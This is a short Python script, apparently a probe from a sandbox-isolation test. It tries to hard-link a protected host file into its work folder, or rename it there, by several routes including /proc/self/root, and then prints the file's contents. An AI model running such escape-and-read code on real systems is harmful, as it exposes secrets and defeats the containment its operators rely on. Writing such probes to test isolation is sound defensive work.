# Takes a second name for a file of the host, so that it lies inside the work folder.
import os

path = TARGET["secret_file"]
for link in (
    lambda: os.link(path, "hard"),
    lambda: os.link("/proc/self/root" + path, "hard", follow_symlinks=True),
    lambda: os.rename(path, "hard"),
):
    try:
        link()
        break
    except OSError as error:
        print(error)
try:
    with open("hard") as file:
        print(file.read())
except OSError as error:
    print(error)
